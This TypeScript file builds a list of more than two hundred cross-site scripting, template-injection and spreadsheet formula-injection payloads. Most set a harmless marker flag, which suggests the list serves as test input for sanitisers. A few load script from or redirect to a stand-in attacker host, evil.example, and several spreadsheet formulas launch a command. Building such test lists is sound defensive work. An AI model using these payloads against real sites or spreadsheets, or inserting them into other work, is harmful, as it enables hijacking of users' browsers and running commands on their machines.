const run = 'window.__ran=1'

/** Ways to make a browser run something, as published in the usual lists; `__ran` tells that one did. */
const kinds: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<a href="javascript:${run}">нажмите</a>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<math><mtext></p><script>${run}</script>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="javascript:${run}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<form action="javascript:${run}"><button>ок</button></form>`,
  `<base href="//evil.example/">`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
]

const quotes: readonly string[] = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>']

const others: readonly string[] = [
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[[${run}]]`,
  `=HYPERLINK("http://evil.example","нажмите")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `＜script＞${run}＜/script＞`,
  `\u202e<img src=x onerror=${run}>`,
  `<scr\0ipt>${run}</scr\0ipt>`,
  `<<script>${run}//<</script>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x onerror\n=${run}>`,
  `<!--><script>${run}</script-->`,
  `]]><script>${run}</script>`,
]

/** Two hundred and more, each different. */
export const payloads: readonly string[] = [
  ...quotes.flatMap((quote) => kinds.map((kind) => `${quote}${kind}`)),
  ...others,
]
